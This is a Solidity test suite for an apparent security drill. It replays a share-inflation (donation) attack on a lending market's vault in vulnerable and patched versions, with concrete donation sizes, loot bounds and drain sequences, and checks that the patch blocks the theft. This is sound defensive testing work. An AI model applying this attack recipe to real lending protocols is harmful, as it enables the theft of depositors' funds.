// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.37;

import {DrillToken} from "../../src/drill/DrillToken.sol";
import {InflationAttack} from "../../src/drill/InflationAttack.sol";
import {LendingMarket} from "../../src/drill/LendingMarket.sol";
import {LendingVault} from "../../src/drill/LendingVault.sol";
import {World} from "./World.sol";

/// @notice The theft, acted against both twins with the same figures.
/// @dev Loot 3.5 m usd, collateral factor 80 %: the donation must be worth 8.75 m usd, 145.9 WBTC. It is 150.
abstract contract TheftTest is World {
    address internal constant THIEF = address(0x7417ef);
    uint256 internal constant SEED = 1e8;
    uint256 internal constant DONATION = 150e8;
    /// @dev What the last share keeps.
    uint256 internal constant DUST = 1;

    InflationAttack internal attack;

    function setUp() public override {
        super.setUp();
        vm.prank(THIEF);
        attack = new InflationAttack(market);
        _token(wbtc).mint(THIEF, SEED + DONATION);
    }

    function _loot() internal view returns (LendingVault[] memory vaults, uint256[] memory amounts) {
        vaults = new LendingVault[](4);
        amounts = new uint256[](4);
        (vaults[0], amounts[0]) = (usdc, USDC_SUPPLY);
        (vaults[1], amounts[1]) = (dai, DAI_SUPPLY);
        (vaults[2], amounts[2]) = (weth, WETH_SUPPLY);
        (vaults[3], amounts[3]) = (link, LINK_SUPPLY);
    }

    function _sendCapital() internal {
        DrillToken token = _token(wbtc);
        vm.prank(THIEF);
        require(token.transfer(address(attack), SEED + DONATION));
    }

    function _start() internal {
        _sendCapital();
        vm.prank(THIEF);
        attack.setUp(wbtc, SEED, DONATION);
    }

    function test_OnlyTheThiefAttacks() public {
        bytes memory refusal = abi.encodeWithSelector(InflationAttack.NotThief.selector, address(this));
        vm.expectRevert(refusal);
        attack.setUp(wbtc, SEED, DONATION);
        vm.expectRevert(refusal);
        attack.borrowFrom(usdc, 1);
        vm.expectRevert(refusal);
        attack.exit();
        (LendingVault[] memory vaults, uint256[] memory amounts) = _loot();
        vm.expectRevert(refusal);
        attack.all(wbtc, SEED, DONATION, vaults, amounts);
    }

    function test_SuppliedVaultIsNoTarget() public {
        _sendCapital();
        uint256 shares = usdc.totalSupply();
        vm.expectRevert(abi.encodeWithSelector(InflationAttack.VaultNotEmpty.selector, address(usdc), shares));
        vm.prank(THIEF);
        attack.setUp(usdc, SEED, DONATION);
    }
}

contract VulnerableTheftTest is TheftTest {
    function _patched() internal pure override returns (bool) {
        return false;
    }

    function test_SixTransactionsTakeEverything() public {
        _start();
        (LendingVault[] memory vaults, uint256[] memory amounts) = _loot();
        for (uint256 i = 0; i < vaults.length; i++) {
            vm.warp(block.timestamp + 12);
            vm.prank(THIEF);
            attack.borrowFrom(vaults[i], amounts[i]);
            atLeast(market.healthFactor(address(attack)), 2e18, "the market sees nothing wrong");
        }
        vm.warp(block.timestamp + 12);
        vm.prank(THIEF);
        attack.exit();
        _checkTaken();
    }

    function test_OneTransactionTakesEverything() public {
        (LendingVault[] memory vaults, uint256[] memory amounts) = _loot();
        vm.startPrank(THIEF);
        _token(wbtc).approve(address(attack), SEED + DONATION);
        attack.all(wbtc, SEED, DONATION, vaults, amounts);
        vm.stopPrank();
        _checkTaken();
    }

    function test_PauseBeforeExitKeepsTheDonation() public {
        _start();
        vm.prank(THIEF);
        attack.borrowFrom(usdc, USDC_SUPPLY);
        vm.prank(GUARDIAN);
        market.pauseFor(72 hours);
        vm.expectPartialRevert(LendingMarket.MarketPaused.selector);
        vm.prank(THIEF);
        attack.borrowFrom(dai, DAI_SUPPLY);
        vm.expectPartialRevert(LendingMarket.MarketPaused.selector);
        vm.prank(THIEF);
        attack.exit();
        atLeast(_token(wbtc).balanceOf(address(wbtc)), DONATION, "the donation is held");
    }

    /// @dev The bound that the documentation gives: a donation worth less than 2 / factor times the loot is stuck.
    function test_TooSmallADonationCannotExit() public {
        _sendCapital();
        vm.startPrank(THIEF);
        attack.setUp(wbtc, SEED, 41e8); // 2.46 m usd; 1 m usd of loot needs 2.5 m
        attack.borrowFrom(usdc, USDC_SUPPLY);
        vm.expectPartialRevert(LendingMarket.Unhealthy.selector);
        attack.exit();
        vm.stopPrank();
    }

    function testFuzz_TheftScales(uint256 donation, uint256 loot) public {
        donation = clamp(donation, 1e8, DONATION);
        // usd with 6 decimals: a little below donation * 60 000 * 80 % / 2
        loot = clamp(loot, 1e6, donation * 24_000 / 1e2 - 1e3);
        if (loot > USDC_SUPPLY) loot = USDC_SUPPLY;
        _sendCapital();
        vm.startPrank(THIEF);
        attack.setUp(wbtc, SEED, donation);
        attack.borrowFrom(usdc, loot);
        attack.exit();
        vm.stopPrank();
        eq(_token(usdc).balanceOf(THIEF), loot, "loot");
        eq(_token(wbtc).balanceOf(THIEF), SEED + DONATION - DUST, "capital");
    }

    function _checkTaken() private view {
        (LendingVault[] memory vaults, uint256[] memory amounts) = _loot();
        for (uint256 i = 0; i < vaults.length; i++) {
            eq(_token(vaults[i]).balanceOf(THIEF), amounts[i], "loot");
            eq(vaults[i].cash(), 0, "vault is empty");
        }
        eq(_token(wbtc).balanceOf(THIEF), SEED + DONATION - DUST, "capital is back");
        eq(wbtc.totalSupply(), 1, "one share is left");
        eq(wbtc.totalAssets(), 1, "worth one unit");
    }
}

contract PatchedTheftTest is TheftTest {
    function _patched() internal pure override returns (bool) {
        return true;
    }

    function test_SlowTheftLosesTheDonation() public {
        _start();
        (LendingVault[] memory vaults,) = _loot();
        for (uint256 i = 0; i < vaults.length; i++) {
            vm.expectPartialRevert(LendingMarket.Unhealthy.selector);
            vm.prank(THIEF);
            attack.borrowFrom(vaults[i], 1e6);
        }
        vm.prank(THIEF);
        (bool ok,) = address(attack).call(abi.encodeCall(InflationAttack.exit, ()));
        yes(!ok, "nothing to take back");
        eq(_token(wbtc).balanceOf(THIEF), 0, "the thief has nothing");
        atLeast(_token(wbtc).balanceOf(address(wbtc)), DONATION, "the donation is lost");
    }

    function test_FastTheftReverts() public {
        (LendingVault[] memory vaults, uint256[] memory amounts) = _loot();
        vm.startPrank(THIEF);
        _token(wbtc).approve(address(attack), SEED + DONATION);
        vm.expectPartialRevert(LendingMarket.Unhealthy.selector);
        attack.all(wbtc, SEED, DONATION, vaults, amounts);
        vm.stopPrank();
    }

    function testFuzz_DonationGivesNoCredit(uint256 donation, uint256 loot) public {
        donation = clamp(donation, 1, 1_000_000e8);
        loot = clamp(loot, 1, USDC_SUPPLY);
        _token(wbtc).mint(THIEF, donation);
        DrillToken token = _token(wbtc);
        vm.prank(THIEF);
        require(token.transfer(address(attack), SEED + donation));
        vm.startPrank(THIEF);
        attack.setUp(wbtc, SEED, donation);
        vm.expectPartialRevert(LendingMarket.Unhealthy.selector);
        attack.borrowFrom(usdc, loot);
        vm.stopPrank();
    }
}
